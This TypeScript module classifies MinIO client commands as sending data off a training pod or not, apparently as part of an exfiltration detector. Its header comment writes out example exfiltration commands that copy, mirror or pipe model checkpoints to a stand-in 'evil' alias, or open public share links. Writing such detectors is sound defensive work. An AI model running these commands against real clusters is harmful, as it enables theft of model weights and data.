/**
 * MinIO client commands that send data (`attrs.exec.copiesToRemote`, exec-command-lines.ts):
 * `mc cp /mnt/ckpt/model.pt evil/drop/m.pt`, `mc mirror --watch /mnt/ckpt evil/b`, `tar c /mnt/ckpt |
 * mc pipe evil/b/c.tar`, `mc share download corp/ckpt/m.pt` (a link anyone can fetch the object by).
 * On-prem training clusters keep their datasets in MinIO and pods pull them every day
 * (`mc cp --recursive minio/datasets/shard-01 /data/`, `mc mirror minio/ds /data/ds`), which sends
 * nothing.
 *
 * mc's grammar (min.io/docs, mc cp / mirror / od): `mc [flags] <command> [flags] SOURCE… TARGET`, a
 * remote path being `ALIAS/bucket/key` with aliases from mc's own configuration, which the exec does
 * not show. So a path is known local only in forms no alias can take: absolute (`/data`), relative to
 * the working or home directory (`./x`, `../x`, `~/x`, `.`), or a Windows drive path; any other may
 * name an alias (`data/x` as well as `evil/b`). A command sends when it is
 * - a copy (cp, mv, mirror, put, get) whose target, its last operand, may be remote; `od` whose
 *   `of=` may be remote;
 * - pipe (standard input to a remote), share, replicate, support (each hands data or access to
 *   others), `anonymous set` of any policy but `none` and `anonymous set-json` (the bucket opened to
 *   anyone), or any command not known to list, print, configure or delete. `mc admin` configures the
 *   server (its users, policies and services: a grant to a user is MLS-EXFIL-042's to escalate); of
 *   its commands only those not known to stay on the server count (`admin replicate` sends).
 * Operands are the words that are neither flags nor their values. mc parses its flags with
 * urfave/cli, which refuses a flag it does not define, so an unknown flag runs nothing; a flag this
 * table does not know is still read as taking the next word, which can only move the target to an
 * earlier operand (a remote one, if any), never hide one: `mc cp /mnt/ckpt/m.pt evil/b --newflag /tmp`
 * sends. A copy with fewer than two operands (its target taken as a flag's value) counts as a send;
 * a command given `--help` or `-h` prints its help and runs nothing.
 */
import { optionOperands } from './option-operands.js';

/** The MinIO client's names as installed (`mcli` where Midnight Commander holds `mc`). */
export const MINIO_TOOLS: ReadonlySet<string> = new Set(['mc', 'mcli']);

/** Commands that copy their sources to their last operand. */
const COPIES = new Set(['cp', 'mv', 'mirror', 'put', 'get']);

/** Commands that list, print, configure or delete, and send nothing of the pod's. */
const QUIET = new Set([
  'ls', 'cat', 'head', 'stat', 'du', 'tree', 'diff', 'ready', 'ping', 'alias', 'config', 'rm', 'rb', 'mb', 'version',
  'sql', 'tag', 'legalhold', 'retention', 'watch', 'undo', 'completion', 'help',
]);

/** `mc admin` commands that configure or inspect the server and hand no data elsewhere. */
const ADMIN_QUIET = new Set([
  'info', 'user', 'group', 'policy', 'config', 'service', 'heal', 'prometheus', 'top', 'trace', 'logs', 'scanner', 'accesskey',
  'idp', 'kms', 'update', 'decommission', 'rebalance',
]);

/** `mc anonymous` commands that read a bucket's anonymous access, or close it. */
function anonymousSends(ops: readonly string[]): boolean {
  const sub = ops[1];
  if (sub === 'set') return ops[2] !== 'none';
  return sub === 'set-json';
}

/** Long flags that take no value (mc's global, cp and mirror flags). */
const SWITCHES = new Set([
  'recursive', 'continue', 'disable-multipart', 'md5', 'preserve', 'zip', 'overwrite', 'remove', 'watch', 'dry-run', 'fake',
  'active-active', 'retry', 'summary', 'skip-errors', 'quiet', 'json', 'debug', 'insecure', 'no-color', 'disable-pager', 'dp',
  'help', 'version', 'newer', 'older', 'versions', 'incomplete', 'force', 'dangerous',
]);

/** Short flags that take no value (`-r` recursive, `-a` preserve, `-q` quiet, `-w` watch, `-c` continue, `-h` help). */
const SHORT_SWITCHES = new Set('racqwh');

/** A path no alias can name: absolute, relative to `.`, `..` or `~`, or a Windows drive path. */
export function isLocalPath(w: string): boolean {
  if (w === '.' || w === '..' || w === '~') return true;
  if (w.startsWith('/') || w.startsWith('./') || w.startsWith('../') || w.startsWith('~/')) return true;
  return /^[A-Za-z]:[\\/]/.test(w);
}

/** Whether mc's flag `w` takes `next` as its value: any but a known switch or one written `--flag=value`. */
function takesNext(w: string, next: string): boolean {
  if (w.indexOf('=') >= 0) return false;
  if (w.startsWith('--')) return !SWITCHES.has(w.slice(2)) && !COPIES.has(next) && !QUIET.has(next);
  for (let k = 1; k < w.length; k++) if (!SHORT_SWITCHES.has(w[k]!)) return !COPIES.has(next) && !QUIET.has(next);
  return false;
}

/** True when the mc command `words` (its tool word first, redirections left out) sends data (see the header). */
export function mcSends(words: readonly string[]): boolean {
  // Help is printed instead of running the command (urfave/cli), wherever the flag stands.
  if (words.includes('--help') || words.includes('-h')) return false;
  const ops = optionOperands(words, takesNext);
  if (ops.length === 0) return false;
  const verb = ops[0]!;
  if (QUIET.has(verb)) return false;
  if (verb === 'anonymous') return anonymousSends(ops);
  if (verb === 'admin') return ops.length < 2 || !ADMIN_QUIET.has(ops[1]!);
  if (verb === 'od') {
    const of = ops.find((w) => w.startsWith('of='));
    return of === undefined || !isLocalPath(of.slice(3));
  }
  if (!COPIES.has(verb)) return true;
  return ops.length < 3 || !isLocalPath(ops[ops.length - 1]!);
}

/**
 * What an mc pull writes (`mc cp minio/ckpt/m.pt /mnt/ckpt/`, `mc mirror minio/ds /data/ds`), for
 * `attrs.exec.writes` (exec-persistence.ts): a copy (cp, mv, get) or mirror whose target, its last
 * operand, is a local path (`isLocalPath`) and one of whose sources may be remote. `sources` are
 * the copy's, to be placed into the target as cp's are; null for a mirror, which writes the target
 * directory itself. Null for anything else (help, a put, a copy between local paths).
 */
export function mcPull(words: readonly string[]): { to: string; sources: string[] | null } | null {
  if (words.includes('--help') || words.includes('-h')) return null;
  const ops = optionOperands(words, takesNext);
  const verb = ops[0];
  if (verb === undefined || verb === 'put' || !COPIES.has(verb) || ops.length < 3) return null;
  const to = ops[ops.length - 1]!;
  const sources = ops.slice(1, -1);
  if (!isLocalPath(to) || sources.every(isLocalPath)) return null;
  return { to, sources: verb === 'mirror' ? null : sources };
}
